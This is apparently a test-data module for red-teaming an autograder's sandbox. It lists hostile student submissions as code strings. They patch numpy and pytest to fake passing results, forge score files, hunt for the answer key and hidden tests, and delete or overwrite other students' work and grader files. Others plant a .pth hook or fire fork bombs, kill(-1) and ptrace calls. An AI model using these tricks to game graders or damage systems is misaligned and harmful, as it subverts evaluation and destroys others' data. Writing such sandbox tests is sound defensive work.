"""Hostile submissions for the red-team suite, as data: each is the handout's stubs (worth
0) or the answer key (worth full marks), plus attack code appended to a module.

`{ROOT}`, `{PORT}`, `{CLASS}`, `{CANARY}`, `{RESULTS}`, `{HOME}` and `{SITE}` in the code are
replaced by the test: the project folder, a port the test listens on (on 127.0.0.1), the
folder of the submissions being graded, a canary folder outside the run, the folder the
results are written to, the grading user's home folder and the grader's site-packages.
An attack's `module` is the student module it is appended to, or "*" for every one.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    code: str
    base: str = "stubs"  # "stubs" (deserves 0) or "solutions" (deserves full marks)
    module: str = "activations"
    extra_files: tuple[tuple[str, str], ...] = ()  # (file name, text) beside the modules


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "patch_numpy_comparisons",
        """
import numpy as _np
_np.testing.assert_allclose = lambda *a, **k: None
_np.testing.assert_array_equal = lambda *a, **k: None
_np.allclose = lambda *a, **k: True
_np.isclose = lambda *a, **k: True
_np.array_equal = lambda *a, **k: True
""",
    ),
    Attack(
        "patch_pytest",
        """
try:
    import pytest as _pytest
    import _pytest.outcomes as _outcomes
    _pytest.fail = lambda *a, **k: None
    _outcomes.fail = lambda *a, **k: None
    _pytest.approx = lambda *a, **k: (lambda: True)
except Exception:
    pass
""",
    ),
    Attack(
        "patch_builtins_and_json",
        """
import builtins as _builtins
import json as _json
_json.dumps = lambda *a, **k: '{"score": 50, "max_score": 50}'
_json.loads = lambda *a, **k: {"score": 50}
_builtins.isinstance = lambda *a: True
_builtins.type = lambda *a: object
""",
    ),
    Attack("sys_exit_at_import", "import sys as _sys\n_sys.exit(0)\n"),
    Attack(
        "os_exit_in_a_function",
        "import os as _os\n\ndef relu(Z):\n    _os._exit(0)\n",
    ),
    Attack(
        "infinite_loop_ignoring_sigterm",
        """
import signal as _signal
_signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
_signal.signal(_signal.SIGINT, _signal.SIG_IGN)

def relu(Z):
    while True:
        pass
""",
    ),
    Attack(
        "memory_bomb",
        """
def relu(Z):
    hog = []
    while True:
        hog.append(bytearray(50 * 1024 * 1024))
""",
    ),
    Attack(
        "fork_bomb",
        """
import os as _os

def relu(Z):
    while True:
        try:
            _os.fork()
        except OSError:
            pass
""",
    ),
    Attack(
        "segfault_through_ctypes",
        "import ctypes as _ctypes\n\ndef relu(Z):\n    return _ctypes.string_at(0)\n",
    ),
    Attack(
        "import_reference_solutions_grader",
        """
for _name in ("solutions.activations", "reference.activations", "grader.hidden._support"):
    try:
        _module = __import__(_name, fromlist=["*"])
        globals().update({k: v for k, v in vars(_module).items() if not k.startswith("__")})
    except BaseException:
        pass
""",
    ),
    Attack(
        "read_answer_key_and_hidden_suite_from_disk",
        """
import os as _os
for _path in ("{ROOT}/solutions/activations.py", "{ROOT}/reference/activations.py"):
    try:
        exec(open(_path).read(), globals())
    except BaseException:
        pass
for _root in ("{ROOT}/grader/hidden", "/work"):
    try:
        for _folder, _dirs, _files in _os.walk(_root):
            for _file in _files:
                try:
                    print(open(_os.path.join(_folder, _file)).read()[:2000])
                except BaseException:
                    pass
    except BaseException:
        pass
""",
    ),
    Attack(
        "read_and_delete_other_submissions_and_results",
        """
import os as _os
import shutil as _shutil
for _root in ("{CLASS}", "{CANARY}", "{ROOT}/solutions"):
    try:
        for _folder, _dirs, _files in _os.walk(_root):
            for _file in _files:
                _path = _os.path.join(_folder, _file)
                try:
                    print(open(_path).read()[:200])
                    open(_path, "w").write("overwritten")
                    _os.unlink(_path)
                except BaseException:
                    pass
        _shutil.rmtree(_root, ignore_errors=True)
    except BaseException:
        pass
""",
    ),
    Attack(
        "write_fake_result_files",
        """
import os as _os
_fake = '{"score": 50, "max_score": 50, "status": "graded"}'
for _path in ("result.json", "/tmp/nngrade-fake-result.json", "{CANARY}/result.json",
              "{CLASS}/result.json", "{ROOT}/result.json"):
    try:
        open(_path, "w").write(_fake)
    except BaseException:
        pass
""",
    ),
    Attack(
        "rigged_return_values",
        """
import numpy as _np

class _Always(_np.ndarray):
    def __eq__(self, other):
        return True
    def __array_finalize__(self, obj):
        pass

class _Fake:
    shape = (3, 4)
    dtype = _np.float64
    def __eq__(self, other):
        return True
    def __array__(self, *a, **k):
        return _np.zeros((3, 4))

def relu(Z):
    return _np.zeros_like(Z).view(_Always)

def sigmoid(Z):
    return _Fake()

def tanh(Z):
    return _np.ma.masked_all(Z.shape)
""",
    ),
    Attack(
        "flood_stdout_and_stderr",
        """
import sys as _sys
for _ in range(2000):
    print("x" * 10000)
    _sys.stderr.write("y" * 10000)
""",
        base="solutions",
    ),
    Attack(
        "junk_into_every_file_descriptor",
        """
import os as _os
for _fd in range(0, 1024):
    try:
        _os.write(_fd, b"\\x00\\xff junk frame {\\"score\\": 50}" * 100)
    except BaseException:
        pass

def relu(Z):
    for _fd in range(0, 1024):
        try:
            _os.write(_fd, b"\\x00\\xff junk" * 100)
        except BaseException:
            pass
    return Z
""",
    ),
    Attack(
        "daemon_processes_and_threads",
        """
import os as _os
import subprocess as _subprocess
import threading as _threading
import time as _time
try:
    _subprocess.Popen(["sleep", "600"], start_new_session=True)
except BaseException:
    pass
try:
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _time.sleep(600)
        _os._exit(0)
except BaseException:
    pass
_threading.Thread(target=lambda: _time.sleep(600), daemon=True).start()
""",
    ),
    Attack(
        "network_access",
        """
import socket as _socket
for _host in ("127.0.0.1", "localhost"):
    try:
        _connection = _socket.create_connection((_host, {PORT}), timeout=1)
        _connection.sendall(b"LEAK")
        _connection.close()
    except BaseException:
        pass
""",
    ),
    Attack(
        "exec_the_answer_key_in_every_module",
        """
import os as _os
_name = _os.path.basename(__file__)
for _folder in ("{ROOT}/solutions", "{ROOT}/reference"):
    try:
        exec(open(_os.path.join(_folder, _name)).read(), globals())
        break
    except BaseException:
        pass
""",
        module="*",
    ),
    Attack(
        "search_the_whole_disk_for_the_answer_key",
        """
import os as _os
_name = _os.path.basename(__file__)
_found = None
for _folder, _dirs, _files in _os.walk("/"):
    _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev")]
    if _name in _files and "exercises" not in _folder:
        try:
            _text = open(_os.path.join(_folder, _name)).read()
        except BaseException:
            continue
        if "BEGIN SOLUTION" in _text or "def sigmoid" in _text:
            _found = _text
            break
if _found:
    exec(_found, globals())
""",
        module="*",
    ),
    Attack(
        "find_the_source_checkout_through_package_metadata",
        """
import json as _json
import os as _os
import sys as _sys
_name = _os.path.basename(__file__)
for _entry in list(_sys.path):
    try:
        for _item in _os.listdir(_entry):
            if _item.startswith("nngrade") and _item.endswith((".dist-info", ".egg-info")):
                _url = _json.load(open(_os.path.join(_entry, _item, "direct_url.json")))["url"]
                _checkout = _url.removeprefix("file://")
                exec(open(_os.path.join(_checkout, "solutions", _name)).read(), globals())
    except BaseException:
        pass
try:
    import importlib.metadata as _metadata
    _checkout = _metadata.distribution("nngrade").read_text("direct_url.json")
    _checkout = _json.loads(_checkout)["url"].removeprefix("file://")
    exec(open(_os.path.join(_checkout, "solutions", _name)).read(), globals())
except BaseException:
    pass
""",
        module="*",
    ),
    Attack(
        "read_the_grader_command_line_and_its_course",
        """
import os as _os
for _pid in _os.listdir("/proc"):
    if not _pid.isdigit():
        continue
    try:
        _words = open(f"/proc/{_pid}/cmdline", "rb").read().split(b"\\0")
        print(_pid, _words)
        for _word in _words:
            _path = _word.decode()
            if _path.startswith("/") and _os.path.isdir(_path):
                for _folder, _dirs, _files in _os.walk(_path):
                    if "activations.py" in _files and "solutions" in _folder:
                        exec(open(_os.path.join(_folder, "activations.py")).read(), globals())
    except BaseException:
        pass
""",
    ),
    Attack(
        "write_into_the_grader_the_oracle_home_and_site_packages",
        """
_payload = "import os\\nos.environ['NNGRADE_PWNED'] = '1'\\n"
for _path in (
    "{ROOT}/reference/activations.py",
    "{ROOT}/grader/gradcheck.py",
    "{ROOT}/grader/hidden/test_activations.py",
    "{HOME}/nngrade-red-team-was-here",
    "{SITE}/nngrade-red-team.pth",
    "{SITE}/numpy/__init__.py",
):
    try:
        with open(_path, "a") as _file:
            _file.write(_payload)
    except BaseException:
        pass
""",
    ),
    Attack(
        "append_code_to_other_submissions",
        """
import os as _os
for _folder, _dirs, _files in _os.walk("{CLASS}"):
    for _file in _files:
        if _file.endswith(".py"):
            try:
                with open(_os.path.join(_folder, _file), "a") as _out:
                    _out.write("\\nraise SystemExit\\n")
            except BaseException:
                pass
""",
    ),
    Attack(
        "ptrace_the_grading_processes",
        """
import ctypes as _ctypes
import os as _os
_libc = _ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
for _pid in [int(p) for p in _os.listdir("/proc") if p.isdigit()] + list(range(1, 4096)):
    if _pid == _os.getpid():
        continue
    for _request in (PTRACE_ATTACH, PTRACE_SEIZE):
        _libc.ptrace(_request, _pid, None, None)
""",
    ),
    Attack(
        "kill_every_process_it_can",
        """
import os as _os
import signal as _signal
try:
    _os.kill(-1, _signal.SIGKILL)
except BaseException:
    pass
""",
    ),
    Attack(
        "daemon_that_kills_the_zygote_and_rewrites_the_results",
        """
import os as _os
import signal as _signal
import time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _fake = '{"score": 50, "max_score": 50, "status": "graded"}'
        for _ in range(300):
            for _pid in _os.listdir("/proc"):
                try:
                    if b"zygote" in open(f"/proc/{_pid}/cmdline", "rb").read():
                        _os.kill(int(_pid), _signal.SIGKILL)
                except BaseException:
                    pass
            for _folder, _dirs, _files in _os.walk("{RESULTS}"):
                for _file in _files:
                    try:
                        open(_os.path.join(_folder, _file), "w").write(_fake)
                    except BaseException:
                        pass
            _time.sleep(0.05)
        _os._exit(0)
    _os._exit(0)
""",
    ),
    Attack(
        "ipc_dead_drop_writer",
        """
import ctypes as _ctypes
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
_answer = open(__file__).read().encode()  # the answer key's activations.py
_key, _size = 0x4E4E4752, 1 << 20
_id = _libc.shmget(_key, _size, 0o1666)  # IPC_CREAT | rw for everyone
if _id >= 0:
    _address = _libc.shmat(_id, None, 0)
    if _address not in (None, _ctypes.c_void_p(-1).value):
        _ctypes.memmove(_address, _answer + b"\\0", len(_answer) + 1)
for _ in range(20):  # what a worker capped at 1 GiB could leave behind
    _libc.shmget(0, 64 << 20, 0o1666)
_libc.msgget(0x4E4E4753, 0o1666)
""",
        base="solutions",
    ),
    Attack(
        "ipc_dead_drop_reader",
        """
import ctypes as _ctypes
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
_id = _libc.shmget(0x4E4E4752, 0, 0)
if _id >= 0:
    _address = _libc.shmat(_id, None, 0)
    if _address not in (None, _ctypes.c_void_p(-1).value):
        exec(_ctypes.string_at(_address).decode(), globals())
""",
    ),
    Attack(
        "a_scratch_tree_three_thousand_folders_deep",
        """
import os as _os
_here = _os.getcwd()
try:
    for _level in range(3000):
        _os.mkdir("d")
        _os.chdir("d")
except BaseException:
    pass
finally:
    _os.chdir(_here)
""",
    ),
    Attack(
        "a_reply_frame_of_200_mib",
        """
import os as _os
import struct as _struct

def relu(Z):
    _os.write(3, _struct.pack("<4sB3xIQ", b"NNGR", 1, 2, 200 << 20) + b"{}")
    _chunk = bytes(1 << 20)
    for _ in range(200):
        _os.write(3, _chunk)
""",
    ),
    Attack(
        "forge_the_purity_verdict",
        """
import gc as _gc

def relu(Z):
    Z[Z < 0] = 0
    return Z

# Rewrite every reply of the worker that carries a list of mutated arguments (how the
# sandbox once reported purity) into an empty list.
for _thing in _gc.get_objects():
    if type(_thing).__name__ == "_Worker":
        _original = _thing.send
        def _send(envelope, value=None, _original=_original):
            if (
                type(value) is tuple
                and len(value) == 2
                and type(value[1]) is list
                and all(type(item) is str for item in value[1])
            ):
                value = (value[0], [])
            return _original(envelope, value)
        _thing.send = _send
""",
        base="solutions",
    ),
    Attack(
        "impure_relu_without_forgery",
        """
def relu(Z):
    Z[Z < 0] = 0
    return Z
""",
        base="solutions",
    ),
    Attack(
        "honest_with_helpers_named_exercises_and_numpy",
        "",
        base="solutions",
        extra_files=(
            ("exercises.py", ""),
            ("numpy.py", "raise SystemExit('a shadowing helper ran')\n"),
        ),
    ),
)
